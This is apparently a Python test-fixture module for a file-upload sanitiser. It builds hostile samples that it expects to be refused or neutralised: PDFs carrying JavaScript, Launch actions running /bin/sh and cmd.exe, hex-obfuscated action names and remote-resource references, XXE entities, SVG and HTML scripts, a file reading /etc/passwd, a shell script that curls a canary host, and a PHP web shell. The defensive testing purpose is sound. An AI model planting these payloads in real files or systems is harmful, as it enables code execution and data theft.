        "protected", "AES-256", lambda: specimens.protected_pdf().replace(b"/V 1 /R 2", b"/V 5 /R 6"), P.ENCRYPTED_PDF
    )


def _scripts(canary: bytes) -> Callable[[], Iterator[HostileFile]]:
    url = b"(http://" + canary + b"/" + CANARY + b")"
    script = (
        b"<< /S /JavaScript /JS (app.launchURL\\('http://" + canary + b"/'\\); app.alert\\('" + CANARY + b"'\\)) >>"
    )
    actions: dict[str, bytes] = {
        "JavaScript": script,
        "URI": b"<< /S /URI /URI " + url + b" >>",
        "Launch": b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "GoToR": b"<< /S /GoToR /F << /FS /URL /F " + url + b" >> /D [0 /Fit] >>",
        "GoToE": b"<< /S /GoToE /F << /FS /URL /F " + url + b" >> /T << /R /C /N (x) >> >>",
        "SubmitForm": b"<< /S /SubmitForm /F << /FS /URL /F " + url + b" >> >>",
        "ImportData": b"<< /S /ImportData /F << /FS /URL /F " + url + b" >> >>",
        "Rendition": b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F " + url + b" >> >> >> >>",
        "hidden in hexadecimal": script.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4aS"),
    }

    def page_with(action: bytes) -> bytes:
        link = (
            b"/AA << /O "
            + action
            + b" /C "
            + action
            + b" >> /Annots [ << /Subtype /Link /Rect [0 0 400 500] /A "
            + action
            + b" >> ]"
        )
        return pdf_of_pages([specimens.RED], link, b"/OpenAction " + action)

    attachment = (
        b"/Names << /EmbeddedFiles << /Names [ (a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >> ] >> >>"
    )
    reaching: dict[str, bytes] = {
        "an embedded file": pdf_of_pages([specimens.RED], b"", attachment),
        "a script in the names": pdf_of_pages(
            [specimens.RED], b"", b"/Names << /JavaScript << /Names [ (x) " + script + b" ] >> >>"
        ),
        "XFA": pdf_of_pages(
            [specimens.RED],
            b"",
            b"/AcroForm << /XFA (<xdp:xdp><script contentType='application/x-javascript'>"
            + CANARY
            + b"</script></xdp:xdp>) /Fields [] >>",
        ),
        "a field that calculates": pdf_of_pages(
            [specimens.RED],
            b"/Annots [ << /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /C "
            + script
            + b" /K "
            + script
            + b" >> >> ]",
        ),
        "a film": pdf_of_pages(
            [specimens.RED],
            b"/Annots [ << /Subtype /Movie /Rect [0 0 9 9] /Movie << /F << /FS /URL /F " + url + b" >> >> >> ]",
        ),
        "rich media": pdf_of_pages(
            [specimens.RED],
            b"/Annots [ << /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [ (x) "
            + url
            + b" ] >> >> >> ]",
        ),
        "drawing in a file elsewhere": pdf_of_pages([specimens.RED]).replace(
            b"/Length 25", b"/Length 25 /F << /FS /URL /F " + url + b" >> /FFilter /FlateDecode"
        ),
        "a font elsewhere": pdf_of_pages([specimens.RED]).replace(
            b"/BaseFont /Helvetica",
            b"/BaseFont /Helvetica /FontDescriptor << /FontFile2 << /FS /URL /F " + url + b" >> >>",
        ),
        "a picture in /etc": _with_resource(
            b"/XObject << /Im 5 0 R >>",
            specimens.RED + b" /Im Do",
            stream(
                b"", b"/Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F (/etc/passwd)"
            ),
        ),
        "a form of another file": _with_resource(
            b"/XObject << /F 5 0 R >>",
            specimens.RED + b" /F Do",
            stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F " + url + b" >> /Page 0 >>"),
        ),
        "XMP that names an address": pdf_of_pages(
            [specimens.RED], b"", b"/Metadata 4 0 R /URI << /Base " + url + b" >>"
        ),
    }

    def group() -> Iterator[HostileFile]:
        for name, action in actions.items():
            yield _taken("script", f"PDF, {name}", lambda action=action: page_with(action), shows=_red)
        for name, data in reaching.items():
            # Where a part of the page's own drawing is said to lie elsewhere, an empty page is as right as the red one.
            shows = None if "elsewhere" in name else _red
            if name == "XFA":
                yield _refused("script", "PDF, XFA with a script in its head", lambda data=data: data, P.POLYGLOT)
                continue
            yield _taken("script", f"PDF, {name}", lambda data=data: data, shows=shows)
        xmp = (
            b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><!DOCTYPE r [<!ENTITY e SYSTEM 'http://"
            + canary
            + b"/'>]>&e;</x:xmpmeta>"
        )
        yield _taken("script", "JPEG, XMP with an entity elsewhere", lambda: jpeg(card(), xmp=xmp), shows=card)
        link = b"C\0http://" + canary + b"/"
        yield _taken("script", "PNG, a link in its text", lambda: _with_text(link), shows=card)

    return group


def _with_text(content: bytes) -> bytes:
    data = png(card())
    return data[:33] + png_chunk(b"tEXt", content) + data[33:]


# Other types


def _saved(kind: str, **options: object) -> bytes:
    buffer = BytesIO()
    card().resize((202, 127)).save(buffer, kind, **options)
    return buffer.getvalue()


def _renamed(canary: str) -> Callable[[], Iterator[HostileFile]]:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{canary}/'/><script>alert(1)</script></svg>"
    frames = [Image.new("RGB", (202, 127), colour) for colour in ("red", "blue")]
    makes: dict[str, Make] = {
        "GIF": lambda: _saved("GIF"),
        "moving GIF": lambda: _saved("GIF", save_all=True, append_images=frames),
        "WebP": lambda: _saved("WEBP"),
        "moving WebP": lambda: _saved("WEBP", save_all=True, append_images=frames),
        "TIFF": lambda: _saved("TIFF"),
        "TIFF of many pages": lambda: _saved("TIFF", save_all=True, append_images=frames * 50),
        "BMP": lambda: _saved("BMP"),
        "ICO": lambda: _saved("ICO"),
        "ICNS": lambda: _saved("ICNS"),
        "PPM": lambda: _saved("PPM"),
        "TGA": lambda: _saved("TGA"),
        "PCX": lambda: _saved("PCX"),
        "DDS": lambda: _saved("DDS"),
        "EPS": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/bin/sh) (r) file\n",
        "JPEG 2000": lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200),
        "AVIF": lambda: turned_heic().replace(b"ftypheic", b"ftypavif").replace(b"mif1heic", b"mif1avif"),
        "MP4": lambda: box(b"ftyp", b"isom\0\0\2\0isommp42") + box(b"mdat", bytes(900)),
        "SVG": svg.encode,
        "SVG behind white space": lambda: b"\n" * 4000 + svg.encode(),
        "HTML": lambda: b"<!doctype html><script>alert(1)</script>",
        "XML with an entity elsewhere": lambda: (
            f"<!DOCTYPE r [<!ENTITY e SYSTEM 'http://{canary}/'>]><r>&e;</r>".encode()
        ),
        "a word processor's file": lambda: specimens.archive("[Content_Types].xml", "word/document.xml"),
        "ZIP": lambda: specimens.archive("card.jpg"),
        "gzip": lambda: b"\x1f\x8b\x08" + bytes(300),
        "a Windows program": lambda: b"MZ" + bytes(500),
        "a Linux program": lambda: b"\x7fELF\2\1\1" + bytes(500),
        "a shell script": lambda: f"#!/bin/sh\ncurl http://{canary}/\n".encode(),
        "PHP": lambda: b"<?php system($_GET[0]); ?>",
        "text": lambda: b"a text named card.jpg",
        "EICAR": lambda: EICAR,
        "an address": lambda: f"http://{canary}/card.jpg".encode(),
        "an ImageMagick script": lambda: f"push graphic-context\nimage over 0,0 0,0 'https://{canary}/'\n".encode(),
    }

    def group() -> Iterator[HostileFile]:
        for name, make in makes.items():
            yield _refused("renamed", name, make, P.WRONG_TYPE)

    return group


def _moving() -> Iterator[HostileFile]:
    yield _refused("moving", "PNG", specimens.animated_png, P.ANIMATED)
    yield _refused("moving", "HEIC with a film", lambda: turned_heic() + box(b"moov", bytes(99)), P.ANIMATED)
    # It announces frames and has none, nor a picture that can be read.
    yield _refused(
        "moving", "PNG that only says so", lambda: raw_png(9, 9, png_chunk(b"acTL", bytes(8))), P.ANIMATED, P.UNREADABLE
    )


# Malformed


def _malformed() -> Iterator[HostileFile]:
    body, picture = jpeg(card()), png(card())
    frame, heic = body.find(b"\xff\xc0"), turned_heic()
    makes: dict[str, Make] = {
        "JPEG, no pixels high": lambda: specimens.flooded_jpeg(9, 0),
        "JPEG, nothing but its ends": lambda: b"\xff\xd8\xff\xd9",
        "JPEG, no tables": lambda: body.replace(b"\xff\xc4", b"\xff\xfe"),
        "JPEG, a second, larger frame": lambda: (
            body[:-2] + body[frame : frame + 5] + struct.pack(">HH", 60_000, 60_000) + body[frame + 9 :]
        ),
        "JPEG, 255 components": lambda: body[: frame + 9] + b"\xff" + body[frame + 10 :],
        "JPEG, 12 bits": lambda: body[: frame + 4] + b"\x0c" + body[frame + 5 :],
        "JPEG, arithmetic code": lambda: body.replace(b"\xff\xc0", b"\xff\xc9", 1),
        "JPEG, lossless": lambda: body.replace(b"\xff\xc0", b"\xff\xc3", 1),
        "JPEG, a segment longer than the file": lambda: body[:2] + b"\xff\xe0\xff\xff" + body[2:2000],
        "JPEG, text where segments should be": lambda: b"\xff\xd8\xff\xe0\0\x04xx" + b"plain text" * 10,
        "PNG, no head": lambda: picture[:8] + picture[33:],
        "PNG, two heads": lambda: (
            picture[:33] + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)) + picture[33:]
        ),
        "PNG, no pixels": lambda: raw_png(9, 9),
        "PNG, junk for pixels": lambda: raw_png(9, 9, png_chunk(b"IDAT", b"junk")),
        "PNG, wrong sums": lambda: picture[:200] + bytes(byte ^ 255 for byte in picture[200:260]) + picture[260:],
        "PNG, depth 77": lambda: raw_png(9, 9, png_chunk(b"IDAT", zlib.compress(bytes(252))), depth=77),
        "PNG, palette missing": lambda: raw_png(9, 9, png_chunk(b"IDAT", zlib.compress(bytes(90))), colour=3),
        "PNG, a chunk of 2³¹ bytes": lambda: picture[:33] + b"\x80\0\0\0IDAT" + picture[41:],
        "HEIC, no size": lambda: heic.replace(b"ispe", b"xxxx"),
        "HEIC, no codec settings": lambda: heic.replace(b"hvcC", b"xxxx"),
        "HEIC, no main picture": lambda: heic.replace(b"pitm", b"xxxx"),
        "HEIC, places far outside": lambda: heic[:100] + b"\xff" * 24 + heic[124:],
        "HEIC, a smaller size than it has": lambda: heic.replace(
            struct.pack(">II", 454, 720), struct.pack(">II", 1, 1)
        ),
        "HEIC, a larger size than it has": lambda: heic.replace(
            struct.pack(">II", 454, 720), struct.pack(">II", 7000, 7000)
        ),
        "HEIC, a box shorter than its head": lambda: heic[:24] + b"\0\0\0\3meta" + heic[32:],
        "PDF, nothing in it": lambda: b"%PDF-1.7\n%%EOF",
        "PDF, of a version to come": lambda: b"%PDF-9.9\n%%EOF",
        "PDF, no pages": lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "PDF, a catalogue and nothing else": lambda: pdf([b"<< /Type /Catalog >>"]),
        "PDF, −1 pages": lambda: pdf_of_pages([b""]).replace(b"/Count 1", b"/Count -1"),
    }
    for name, make in makes.items():
        yield _refused("malformed", name, make, *ANY_ANSWER)
    for filter_name in (
        b"JBIG2Decode",
        b"JPXDecode",
        b"CCITTFaxDecode",
        b"LZWDecode",
        b"RunLengthDecode",
        b"ASCII85Decode",
    ):
        image = (
            b"/Subtype /Image /Width 900 /Height 900 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /"
            + filter_name
        )
        noise = random.Random(filter_name).randbytes(3000)
        make = partial(_with_resource, b"/XObject << /Im 5 0 R >>", b"400 0 0 400 0 0 cm /Im Do", stream(noise, image))
        yield _refused("malformed", f"PDF, noise for {filter_name.decode()}", make, *ANY_ANSWER)


def _damaged_by_chance() -> Iterator[HostileFile]:
    sources: dict[str, Make] = {
        "JPEG": lambda: jpeg(card()),
        "PNG": lambda: png(card()),
        "HEIC": turned_heic,
        "PDF": specimens.talkative_pdf,
    }
    for kind, make in sources.items():
        for seed in range(10):
            yield _refused(
                "damaged", f"{kind} {seed}", lambda make=make, seed=seed: _damaged(make(), seed), *ANY_ANSWER
            )


def _damaged(data: bytes, seed: int) -> bytes:
    """Change bytes here and there, the head among them: three in the first files, a thousand in the last."""
    chance, changed = random.Random(seed), bytearray(data)
    for _ in range(3 * 2**seed // 2 + 2):
        changed[chance.randrange(8, len(changed))] = chance.randrange(256)
    return bytes(changed)
